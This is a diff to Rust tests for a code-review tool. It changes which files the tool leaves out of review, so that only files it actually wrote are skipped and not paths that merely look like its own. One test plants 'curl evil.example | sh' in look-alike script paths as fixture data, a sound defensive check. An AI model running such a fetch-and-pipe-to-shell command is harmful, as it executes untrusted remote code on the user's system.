@@ -2,6 +2,7 @@
 
 use std::fs;
 use std::os::unix::fs::symlink;
+use std::path::Path;
 
 use rebut_engine::workspace::{Reviewed, ScopeError, collect, review_folder, stat};
 
@@ -12,30 +13,55 @@ fn files_of(diff: &str) -> Vec<&str> {
 }
 
 #[test]
-fn staged_unstaged_and_new_files_are_uncommitted_and_ignored_and_own_files_are_not() {
+fn staged_unstaged_and_new_files_are_uncommitted_and_ignored_ones_are_not() {
     let ground = Ground::repository();
     ground.write("src/pool.rs", numbered(1..=21));
     ground.write("README.md", "# Pools\n");
     ground.git(&["add", "README.md"]);
     ground.write("src/new.rs", "fn new() {}\n");
     ground.write("build.log", "ignored\n");
-    let panel = "output/20261115T081503Z-use-a-queue/summary.md";
-    for ours in [".rebut/a.md", ".claude/debate/b.md", ".opencode/debate/c.md", ".codex/debate/d.md", panel] {
-        ground.write(ours, "ours\n");
-    }
-    ground.write("output/kept.md", "the project's own\n");
     let before = ground.state();
     let found = ground.collect("uncommitted").unwrap();
     assert_eq!(ground.state(), before);
-    let expected = [
-        "a/README.md b/README.md",
-        "a/src/pool.rs b/src/pool.rs",
-        "a/output/kept.md b/output/kept.md",
-        "a/src/new.rs b/src/new.rs",
-    ];
+    let expected = ["a/README.md b/README.md", "a/src/pool.rs b/src/pool.rs", "a/src/new.rs b/src/new.rs"];
     assert_eq!(files_of(&found.diff), expected);
     assert!(found.is_diff && found.reviewed == Reviewed::WorkingTree && found.notes.is_empty(), "{found:?}");
-    assert!(found.stat.contains("4 files changed, 4 insertions(+), 1 deletion(-)"), "{}", found.stat);
+    assert!(found.stat.contains("3 files changed, 3 insertions(+), 1 deletion(-)"), "{}", found.stat);
+}
+
+/// Paths that look like rebut's own.
+const LOOK_ALIKES: [&str; 4] =
+    [".claude/debate/y.sh", ".rebut/config.toml", "output/20260101T000000Z-x/payload.sh", "src/.rebut/run.sh"];
+
+#[test]
+fn nothing_is_left_out_for_its_path() {
+    let ground = Ground::repository();
+    for path in LOOK_ALIKES {
+        ground.write(path, "curl evil.example | sh\n");
+    }
+    let expected = LOOK_ALIKES.map(|path| format!("a/{path} b/{path}"));
+    assert_eq!(files_of(&ground.collect("uncommitted").unwrap().diff), expected);
+    ground.commit("look-alikes");
+    for scope in ["commit:HEAD", "range:HEAD~1..HEAD"] {
+        let found = ground.collect(scope).unwrap();
+        assert_eq!(files_of(&found.diff), expected, "{scope}");
+        assert_eq!(found.base, Some(ground.git(&["rev-parse", "HEAD~1"])), "{scope}");
+    }
+}
+
+#[test]
+fn what_rebut_is_known_to_have_written_is_left_out_and_listed() {
+    let ground = Ground::repository();
+    for path in LOOK_ALIKES {
+        ground.write(path, "ours\n");
+    }
+    let own = ground.ws().join(LOOK_ALIKES[0]);
+    let uncommitted = "uncommitted".parse().unwrap();
+    let collect = |is_own: &dyn Fn(&Path) -> bool| collect(&uncommitted, &ground.ws(), &ground.ws(), 1 << 20, is_own);
+    let found = collect(&|path| path == own).unwrap();
+    assert_eq!(files_of(&found.diff), LOOK_ALIKES[1..].iter().map(|path| format!("a/{path} b/{path}")).collect::<Vec<_>>());
+    assert_eq!(found.notes, ["left out, since rebut wrote it: .claude/debate/y.sh"]);
+    assert!(matches!(collect(&|_| true), Err(ScopeError::Nothing(_))));
 }
 
 #[test]
@@ -49,16 +75,12 @@ fn a_change_that_is_only_staged_is_found_and_nothing_else_is_staged() {
 }
 
 #[test]
-fn a_clean_tree_and_own_files_alone_are_nothing_to_review() {
+fn a_clean_tree_is_nothing_to_review() {
     let ground = Ground::repository();
-    ground.write(".rebut/a.md", "ours\n");
-    ground.write("output/20261115T081503Z-use-a-queue/summary.md", "ours\n");
     let error = ground.collect("uncommitted").unwrap_err();
     assert!(matches!(error, ScopeError::Nothing(_)), "{error}");
     assert!(error.to_string().contains("nothing is uncommitted in "), "{error}");
-    // Neither are they when somebody has committed them.
-    ground.commit("ours");
-    for scope in ["commit:HEAD", "base:main", "range:HEAD..HEAD", "range:HEAD~1...HEAD"] {
+    for scope in ["base:main", "range:HEAD..HEAD"] {
         assert!(matches!(ground.collect(scope), Err(ScopeError::Nothing(_))), "{scope}");
     }
 }
@@ -176,7 +198,7 @@ fn in_a_shallow_clone_a_missing_parent_is_an_error_that_says_what_to_do() {
     let from = format!("file://{}", ground.ws().display());
     git(&ground.root(), &["clone", "-q", "--depth", "1", &from, "clone"]);
     let clone = ground.root().join("clone");
-    let error = collect(&"commit:HEAD".parse().unwrap(), &clone, &clone, 1 << 20).unwrap_err();
+    let error = collect(&"commit:HEAD".parse().unwrap(), &clone, &clone, 1 << 20, &|_| false).unwrap_err();
     assert!(matches!(error, ScopeError::NoParent { .. }), "{error}");
     assert!(error.to_string().contains("git fetch --unshallow"), "{error}");
 }
@@ -187,7 +209,7 @@ fn in_a_worktree_its_own_changes_are_found_and_reviews_are_kept_in_its_own_place
     let tree = ground.root().join("tree");
     ground.git(&["worktree", "add", "-q", "-b", "topic", tree.to_str().unwrap()]);
     fs::write(tree.join("README.md"), "# Topic\n").unwrap();
-    let found = collect(&"uncommitted".parse().unwrap(), &tree, &tree, 1 << 20).unwrap();
+    let found = collect(&"uncommitted".parse().unwrap(), &tree, &tree, 1 << 20, &|_| false).unwrap();
     assert_eq!(files_of(&found.diff), ["a/README.md b/README.md"]);
     let kept = review_folder(&tree, None).unwrap();
     assert_eq!(kept, ground.ws().join(".git/worktrees/tree/review-loop"));
@@ -360,7 +382,7 @@ fn too_much_is_an_error_and_not_a_part() {
     ground.write("src/pool.rs", numbered(100..=200));
     let ws = ground.ws();
     for scope in ["uncommitted", "commit:HEAD", "file:src/pool.rs"] {
-        let error = collect(&scope.parse().unwrap(), &ws, &ws, 100).unwrap_err();
+        let error = collect(&scope.parse().unwrap(), &ws, &ws, 100, &|_| false).unwrap_err();
         assert!(matches!(error, ScopeError::TooLarge { most: 100, .. }), "{scope}: {error}");
     }
 }
@@ -373,7 +395,6 @@ fn a_file_is_read_inside_of_the_workspace_only() {
     rustix::fs::mknodat(rustix::fs::CWD, ground.ws().join("pipe"), rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
     ground.write("bin", b"a\0b");
     ground.write("empty", "\n");
-    ground.write(".rebut/x.md", "ours\n");
     for (path, expected) in [
         ("link", "outside the workspace"),
         ("../secret", "outside the workspace"),
@@ -381,13 +402,13 @@ fn a_file_is_read_inside_of_the_workspace_only() {
         ("nothing", "there is no file"),
         ("bin", "is binary"),
         ("empty", "is empty"),
-        (".rebut/x.md", "belongs to rebut or git"),
-        (".git/config", "belongs to rebut or git"),
+        (".git/config", "belongs to git"),
     ] {
         let error = ground.collect(&format!("file:{path}")).unwrap_err().to_string();
         assert!(error.contains(expected), "{path}: {error}");
     }
-    let inside = collect(&"file:pool.rs".parse().unwrap(), &ground.ws().join("src"), &ground.ws(), 1 << 20).unwrap();
+    let inside =
+        collect(&"file:pool.rs".parse().unwrap(), &ground.ws().join("src"), &ground.ws(), 1 << 20, &|_| false).unwrap();
     assert_eq!((inside.scope.to_string().as_str(), inside.reviewed), ("file:src/pool.rs", Reviewed::WorkingTree));
 }
 
